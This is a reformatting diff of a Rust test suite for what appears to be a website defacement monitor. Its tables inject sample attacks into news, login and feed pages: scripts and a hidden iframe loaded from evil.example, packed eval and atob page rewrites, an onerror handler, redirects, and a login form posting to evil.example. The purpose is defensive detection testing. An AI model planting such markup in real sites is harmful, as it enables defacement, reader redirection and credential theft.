@@ -19,13 +19,7 @@ use frontwatch_core::watch::{Expect, WatchKind};
 type Change = fn(String) -> String;
 
 fn in_body(what: &'static str) -> impl Fn(String) -> String {
-    move |page| {
-        page.replacen(
-            "<body class=\"front\">",
-            &format!("<body class=\"front\">{what}"),
-            1,
-        )
-    }
+    move |page| page.replacen("<body class=\"front\">", &format!("<body class=\"front\">{what}"), 1)
 }
 
 fn at_end(what: &'static str) -> impl Fn(String) -> String {
@@ -33,12 +27,7 @@ fn at_end(what: &'static str) -> impl Fn(String) -> String {
 }
 
 fn kinds(judged: &Judged) -> Vec<&str> {
-    judged
-        .judgement
-        .signals
-        .iter()
-        .map(|signal| signal.kind.as_str())
-        .collect()
+    judged.judgement.signals.iter().map(|signal| signal.kind.as_str()).collect()
 }
 
 /// (what, change to the tenth look, a kind of signal that names it)
@@ -75,65 +64,38 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
         ),
         (
             "a picture above the page, own host",
-            Box::new(in_body(
-                "<center><img src=\"/img/p1.png\" width=\"100%\"></center>",
-            )),
+            Box::new(in_body("<center><img src=\"/img/p1.png\" width=\"100%\"></center>")),
             "image.top",
         ),
         (
             "a picture above the page, foreign host",
-            Box::new(in_body(
-                "<p><img src=\"https://evil.example/p1.png\" width=\"900\"></p>",
-            )),
+            Box::new(in_body("<p><img src=\"https://evil.example/p1.png\" width=\"900\"></p>")),
             "image.top",
         ),
-        (
-            "another logo",
-            plain(|page| page.replace("/img/logo.svg", "https://evil.example/logo.png")),
-            "image.logo",
-        ),
+        ("another logo", plain(|page| page.replace("/img/logo.svg", "https://evil.example/logo.png")), "image.logo"),
         (
             "one picture on all cards",
             plain(|page| {
-                let mut parts = page
-                    .split("src=\"/img/")
-                    .map(str::to_owned)
-                    .collect::<Vec<_>>();
+                let mut parts = page.split("src=\"/img/").map(str::to_owned).collect::<Vec<_>>();
                 for part in parts.iter_mut().skip(2) {
                     let end = part.find('"').unwrap();
                     part.replace_range(..end, "flag.jpg");
                 }
-                parts
-                    .join("src=\"/img/")
-                    .replace("/img/flag.jpg", "https://evil.example/flag.jpg")
+                parts.join("src=\"/img/").replace("/img/flag.jpg", "https://evil.example/flag.jpg")
             }),
             "image.everywhere",
         ),
         (
             "a claim in the title",
-            plain(|page| {
-                page.replace(
-                    "<title>Outlet Daily - news of the day",
-                    "<title>H4cked  by Gh0st",
-                )
-            }),
+            plain(|page| page.replace("<title>Outlet Daily - news of the day", "<title>H4cked  by Gh0st")),
             "wording.title",
         ),
         (
             "a script in the title",
-            plain(|page| {
-                page.replace(
-                    "</title>",
-                    "<script src=//evil.example/j.js></script></title>",
-                )
-            }),
+            plain(|page| page.replace("</title>", "<script src=//evil.example/j.js></script></title>")),
             "title.markup",
         ),
-        (
-            "a claim above the page",
-            Box::new(in_body("<h1>Sayt hack olundu!</h1>")),
-            "wording.heading",
-        ),
+        ("a claim above the page", Box::new(in_body("<h1>Sayt hack olundu!</h1>")), "wording.heading"),
         (
             "all headlines one message",
             plain(|page| {
@@ -171,27 +133,17 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
         ),
         (
             "a foreign script at the end",
-            Box::new(at_end(
-                "<script src=\"https://evil.example/x.js\"></script>",
-            )),
+            Box::new(at_end("<script src=\"https://evil.example/x.js\"></script>")),
             "source.script",
         ),
         (
             "a foreign script in a headline",
-            plain(|page| {
-                page.replacen(
-                    "<h2>",
-                    "<h2><script src=https://evil.example/x.js></script>",
-                    1,
-                )
-            }),
+            plain(|page| page.replacen("<h2>", "<h2><script src=https://evil.example/x.js></script>", 1)),
             "source.script",
         ),
         (
             "a hidden foreign frame",
-            Box::new(at_end(
-                "<iframe src=\"http://evil.example/\" width=1 height=1></iframe>",
-            )),
+            Box::new(at_end("<iframe src=\"http://evil.example/\" width=1 height=1></iframe>")),
             "source.frame",
         ),
         (
@@ -201,16 +153,12 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
         ),
         (
             "the document rewritten",
-            Box::new(at_end(
-                "<script>document.documentElement.innerHTML=atob('PGgxPg==')</script>",
-            )),
+            Box::new(at_end("<script>document.documentElement.innerHTML=atob('PGgxPg==')</script>")),
             "script.replaces",
         ),
         (
             "a packed script",
-            Box::new(at_end(
-                "<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
-            )),
+            Box::new(at_end("<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>")),
             "script.packed",
         ),
         (
@@ -222,25 +170,18 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
         ),
         (
             "a script that sends readers away",
-            Box::new(at_end(
-                "<script>if(!document.cookie){window.location.href='https://evil.example/win'}</script>",
-            )),
+            Box::new(at_end("<script>if(!document.cookie){window.location.href='https://evil.example/win'}</script>")),
             "script.redirects",
         ),
         (
             "code in an event handler",
-            Box::new(in_body(
-                "<img src=x onerror=\"document.documentElement.innerHTML=atob('PGgxPg==')\">",
-            )),
+            Box::new(in_body("<img src=x onerror=\"document.documentElement.innerHTML=atob('PGgxPg==')\">")),
             "script.replaces",
         ),
         (
             "a refresh to elsewhere",
             plain(|page| {
-                page.replace(
-                    "<head>",
-                    "<head><meta http-equiv=refresh content=\"2;URL='http://evil.example/'\">",
-                )
+                page.replace("<head>", "<head><meta http-equiv=refresh content=\"2;URL='http://evil.example/'\">")
             }),
             "source.refresh",
         ),
@@ -265,11 +206,7 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
             }),
             "takeover.page",
         ),
-        (
-            "only a claim",
-            plain(|_| "<h1>Owned</h1>hacked by nobody in particular".to_owned()),
-            "takeover.page",
-        ),
+        ("only a claim", plain(|_| "<h1>Owned</h1>hacked by nobody in particular".to_owned()), "takeover.page"),
     ]
 }
 
@@ -281,30 +218,16 @@ fn attacks_alarm_and_say_why() {
         assert_ne!(page, front(9), "{what}");
         let judged = watch.judge(&page);
         let judgement = &judged.judgement;
-        assert_eq!(
-            judgement.verdict,
-            Verdict::Alarm,
-            "{what}: {} {:?}",
-            judgement.score,
-            judgement.signals
-        );
+        assert_eq!(judgement.verdict, Verdict::Alarm, "{what}: {} {:?}", judgement.score, judgement.signals);
         assert_eq!(judgement.severity, Severity::Critical, "{what}");
-        assert!(
-            kinds(&judged).contains(&kind),
-            "{what}: {:?}",
-            kinds(&judged)
-        );
+        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
         for signal in &judgement.signals {
             assert!(
                 !signal.before.is_empty() && !signal.after.is_empty(),
                 "{what}: {} has no before or after",
                 signal.kind
             );
-            assert_eq!(
-                signal.message.id,
-                format!("signal-{}", signal.kind.replace('.', "-")),
-                "{what}"
-            );
+            assert_eq!(signal.message.id, format!("signal-{}", signal.kind.replace('.', "-")), "{what}");
         }
     }
 }
@@ -316,80 +239,45 @@ fn the_news_does_not_alarm() {
         ("the next look", Box::new(|page| page)),
         (
             "a story about a hack",
+            Box::new(|page| page.replacen("<h2>", "<h2>Ministry site hacked by unknown group: </h2><h2>", 1)),
+        ),
+        (
+            "a breaking-news box",
+            Box::new(in_body("<div class=\"breaking\"><a href=\"/live\">Breaking: bridge closed, live</a></div>")),
+        ),
+        ("a known company's script", Box::new(at_end("<script src=\"https://cdn.taboola.com/loader.js\"></script>"))),
+        (
+            "an advertising frame",
+            Box::new(at_end("<iframe src=\"https://tpc.googlesyndication.com/a\" width=300 height=250></iframe>")),
+        ),
+        (
+            "a video among the stories",
             Box::new(|page| {
                 page.replacen(
-                    "<h2>",
-                    "<h2>Ministry site hacked by unknown group: </h2><h2>",
+                    "</article>",
+                    "<iframe width=560 height=315 src=\"https://www.youtube.com/embed/x\"></iframe></article>",
                     1,
                 )
             }),
         ),
         (
-            "a breaking-news box",
-            Box::new(in_body(
-                "<div class=\"breaking\"><a href=\"/live\">Breaking: bridge closed, live</a></div>",
-            )),
-        ),
-        (
-            "a known company's script",
-            Box::new(at_end(
-                "<script src=\"https://cdn.taboola.com/loader.js\"></script>",
-            )),
-        ),
-        (
-            "an advertising frame",
-            Box::new(at_end(
-                "<iframe src=\"https://tpc.googlesyndication.com/a\" width=300 height=250></iframe>",
-            )),
-        ),
-        (
-            "a video among the stories",
-            Box::new(|page| {
-                page.replacen("</article>", "<iframe width=560 height=315 src=\"https://www.youtube.com/embed/x\"></iframe></article>", 1)
-            }),
-        ),
-        (
             "a mourning day in grey",
             Box::new(|page| {
-                page.replace(
-                    "<body class=\"front\">",
-                    "<body class=\"front\" style=\"filter:grayscale(1)\">",
-                )
+                page.replace("<body class=\"front\">", "<body class=\"front\" style=\"filter:grayscale(1)\">")
             }),
         ),
         (
             "a new section",
-            Box::new(|page| {
-                page.replace(
-                    "</ul></nav>",
-                    "<li><a href=\"/elections\">elections</a></li></ul></nav>",
-                )
-            }),
+            Box::new(|page| page.replace("</ul></nav>", "<li><a href=\"/elections\">elections</a></li></ul></nav>")),
         ),
         ("twenty new stories at once", Box::new(|_| front(29))),
-        (
-            "a refresh of itself",
-            Box::new(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=300>")),
-        ),
-        (
-            "a tracking pixel",
-            Box::new(at_end(
-                "<img src=\"https://pixel.example/p.gif\" width=1 height=1>",
-            )),
-        ),
-        (
-            "another style sheet version",
-            Box::new(|page| page.replace("/css/site.css?v=9", "/css/site.css?v=abcdef")),
-        ),
+        ("a refresh of itself", Box::new(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=300>"))),
+        ("a tracking pixel", Box::new(at_end("<img src=\"https://pixel.example/p.gif\" width=1 height=1>"))),
+        ("another style sheet version", Box::new(|page| page.replace("/css/site.css?v=9", "/css/site.css?v=abcdef"))),
     ];
     for (what, change) in table {
         let judged = watch.judge(&change(front(9)));
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Normal,
-            "{what}: {:?}",
-            judged.judgement.signals
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Normal, "{what}: {:?}", judged.judgement.signals);
     }
 }
 
@@ -401,58 +289,23 @@ fn what_cannot_be_seen_is_neither_well_nor_an_alarm() {
     let challenge = headers("cf-mitigated", "challenge");
     let retry = headers("retry-after", "600");
     let table = [
-        (
-            502,
-            &none,
-            "<title>502 Bad Gateway</title><h1>502 Bad Gateway</h1>",
-            Availability::Error,
-        ),
+        (502, &none, "<title>502 Bad Gateway</title><h1>502 Bad Gateway</h1>", Availability::Error),
         (404, &none, "<title>Not found</title>", Availability::Error),
-        (
-            503,
-            &retry,
-            "<title>Maintenance</title><p>Back soon",
-            Availability::Maintenance,
-        ),
-        (
-            200,
-            &none,
-            "<title>Scheduled maintenance</title><p>We are back soon",
-            Availability::Maintenance,
-        ),
-        (
-            403,
-            &challenge,
-            "<title>Just a moment...</title>",
-            Availability::RobotCheck,
-        ),
+        (503, &retry, "<title>Maintenance</title><p>Back soon", Availability::Maintenance),
+        (200, &none, "<title>Scheduled maintenance</title><p>We are back soon", Availability::Maintenance),
+        (403, &challenge, "<title>Just a moment...</title>", Availability::RobotCheck),
         (
             200,
             &none,
             "<title>Robot check</title><p>Enter the characters<img src=/captcha.png>",
             Availability::RobotCheck,
         ),
-        (
-            403,
-            &none,
-            "<title>403 Forbidden</title>",
-            Availability::Refused,
-        ),
-        (
-            429,
-            &none,
-            "<title>Too many requests</title>",
-            Availability::Refused,
-        ),
+        (403, &none, "<title>403 Forbidden</title>", Availability::Refused),
+        (429, &none, "<title>Too many requests</title>", Availability::Refused),
     ];
     for (status, headers, page, expected) in table {
         let judged = watch.judge_with(page, status, headers, common::HOST);
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Inconclusive,
-            "{page}: {:?}",
-            judged.judgement.signals
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Inconclusive, "{page}: {:?}", judged.judgement.signals);
         assert_eq!(judged.judgement.availability, expected, "{page}");
         assert_eq!(kinds(&judged).len(), 1, "{page}");
     }
@@ -468,12 +321,7 @@ fn an_error_status_hides_no_defacement() {
             &Headers::default(),
             common::HOST,
         );
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Alarm,
-            "{status}: {:?}",
-            judged.judgement.signals
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{status}: {:?}", judged.judgement.signals);
     }
 }
 
@@ -483,18 +331,10 @@ fn a_page_that_is_hacked_when_first_seen_is_told_and_not_learned() {
     for page in [
         "<title>Hacked by nobody</title><body>x</body>".to_owned(),
         in_body("<div style=\"position:fixed;inset:0\"><h1>hacked by nobody</h1></div>")(front(0)),
-        front(0).replace(
-            "<head>",
-            "<head><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
-        ),
+        front(0).replace("<head>", "<head><meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
     ] {
         let judged = watch.see(&page);
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Alarm,
-            "{:?}",
-            judged.judgement.signals
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{:?}", judged.judgement.signals);
         assert_eq!(watch.baseline.looks(), 0);
     }
     assert_eq!(watch.see(&front(0)).judgement.verdict, Verdict::Learning);
@@ -506,12 +346,7 @@ fn an_address_that_answers_from_elsewhere_alarms() {
     let judged = watch.judge_with(&front(5), 200, &Headers::default(), "https://evil.example/");
     assert_eq!(judged.judgement.verdict, Verdict::Alarm);
     assert!(kinds(&judged).contains(&"redirect.foreign"));
-    let judged = watch.judge_with(
-        &front(5),
-        200,
-        &Headers::default(),
-        "https://www.outlet.example/en/",
-    );
+    let judged = watch.judge_with(&front(5), 200, &Headers::default(), "https://www.outlet.example/en/");
     assert_eq!(judged.judgement.verdict, Verdict::Normal);
 }
 
@@ -522,59 +357,37 @@ fn login_pages_alarm_when_they_open_or_send_elsewhere() {
         (
             "no password",
             |page| {
-                page.replace(
-                    "<label>Password <input type=\"password\" name=\"password\"></label>",
-                    "<p>Welcome, admin",
-                )
+                page.replace("<label>Password <input type=\"password\" name=\"password\"></label>", "<p>Welcome, admin")
             },
             "login.open",
         ),
         (
             "form elsewhere",
-            |page| {
-                page.replace(
-                    "action=\"/admin/login\"",
-                    "action=\"http://evil.example/c.php\"",
-                )
-            },
+            |page| page.replace("action=\"/admin/login\"", "action=\"http://evil.example/c.php\""),
             "source.form",
         ),
         (
             "new script",
-            |page| {
-                page.replace(
-                    "</body>",
-                    "<script src=\"https://evil.example/k.js\"></script></body>",
-                )
-            },
+            |page| page.replace("</body>", "<script src=\"https://evil.example/k.js\"></script></body>"),
             "source.script",
         ),
         (
             "cover",
             |page| {
-                page.replace("<body class=\"login\">", "<body class=\"login\"><div style=\"position:fixed;inset:0\"><img src=//evil.example/x.png></div>")
+                page.replace(
+                    "<body class=\"login\">",
+                    "<body class=\"login\"><div style=\"position:fixed;inset:0\"><img src=//evil.example/x.png></div>",
+                )
             },
             "cover.picture",
         ),
     ];
     for (what, change, kind) in table {
         let judged = watch.judge(&change(login(4)));
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Alarm,
-            "{what}: {:?}",
-            judged.judgement.signals
-        );
-        assert!(
-            kinds(&judged).contains(&kind),
-            "{what}: {:?}",
-            kinds(&judged)
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{what}: {:?}", judged.judgement.signals);
+        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
     }
-    let message = login(4).replace(
-        "<label>Name",
-        "<p class=\"message\">Your session has ended.</p><label>Name",
-    );
+    let message = login(4).replace("<label>Name", "<p class=\"message\">Your session has ended.</p><label>Name");
     assert_eq!(watch.judge(&message).judgement.verdict, Verdict::Normal);
 }
 
@@ -616,37 +429,51 @@ fn feeds_alarm_when_stories_vanish_change_or_lead_elsewhere() {
     };
     let table = [
         ("a third is gone", items(|at| at % 3 != 1, |item| item), "feed.vanished"),
-        ("titles rewritten", items(|_| true, |item| item.replace("<title>The", "<title>").replace("parliament", "zzz").replacen("<title>", "<title>All your stories belong here</title><x>", 1)), "feed.retitled"),
-        ("links elsewhere", items(|_| true, |item| item.replace("https://outlet.example", "http://evil.example")), "feed.links"),
+        (
+            "titles rewritten",
+            items(
+                |_| true,
+                |item| {
+                    item.replace("<title>The", "<title>").replace("parliament", "zzz").replacen(
+                        "<title>",
+                        "<title>All your stories belong here</title><x>",
+                        1,
+                    )
+                },
+            ),
+            "feed.retitled",
+        ),
+        (
+            "links elsewhere",
+            items(|_| true, |item| item.replace("https://outlet.example", "http://evil.example")),
+            "feed.links",
+        ),
         ("empty", items(|_| false, |item| item), "feed.empty"),
-        ("a flood", feed(6).replacen("<item>", &format!("{}<item>", (0..60).map(|n| format!("<item><title>win {n}</title><link>https://outlet.example/w{n}</link></item>")).collect::<String>()), 1), "feed.flood"),
+        (
+            "a flood",
+            feed(6).replacen(
+                "<item>",
+                &format!(
+                    "{}<item>",
+                    (0..60)
+                        .map(|n| format!("<item><title>win {n}</title><link>https://outlet.example/w{n}</link></item>"))
+                        .collect::<String>()
+                ),
+                1,
+            ),
+            "feed.flood",
+        ),
     ];
     for (what, page, kind) in table {
         let judged = watch.judge(&page);
-        assert_eq!(
-            judged.judgement.verdict,
-            Verdict::Alarm,
-            "{what}: {:?}",
-            judged.judgement.signals
-        );
-        assert!(
-            kinds(&judged).contains(&kind),
-            "{what}: {:?}",
-            kinds(&judged)
-        );
+        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{what}: {:?}", judged.judgement.signals);
+        assert!(kinds(&judged).contains(&kind), "{what}: {:?}", kinds(&judged));
     }
     for (what, page) in [
         ("one more", feed(6)),
         ("five more", feed(11)),
-        (
-            "headline edited",
-            feed(6).replacen("and the", "meets the", 3),
-        ),
+        ("headline edited", feed(6).replacen("and the", "meets the", 3)),
     ] {
-        assert_eq!(
-            watch.judge(&page).judgement.verdict,
-            Verdict::Normal,
-            "{what}"
-        );
+        assert_eq!(watch.judge(&page).judgement.verdict, Verdict::Normal, "{what}");
     }
 }
